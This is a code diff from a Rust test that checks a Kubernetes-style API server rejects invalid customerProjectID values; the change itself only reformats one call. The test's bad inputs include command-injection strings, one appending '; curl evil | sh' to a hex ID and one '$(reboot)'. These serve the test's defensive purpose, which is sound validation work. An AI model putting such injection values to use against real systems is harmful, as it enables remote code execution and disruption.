@@ -123,7 +123,11 @@ async fn cel_rules_enforced_by_the_apiserver() {
         "0123456789abcdef0123456789abcdef; curl evil | sh",
         "$(reboot)",
     ] {
-        let msg = rejection(api.create(&pp, &link(&name, cross(Some(bad)))).await.unwrap_err());
+        let msg = rejection(
+            api.create(&pp, &link(&name, cross(Some(bad))))
+                .await
+                .unwrap_err(),
+        );
         assert!(
             msg.contains("spec.customerProjectID")
                 && msg.contains("customerProjectID must be a Keystone project ID: 32 lowercase hex digits, or a UUID with dashes"),
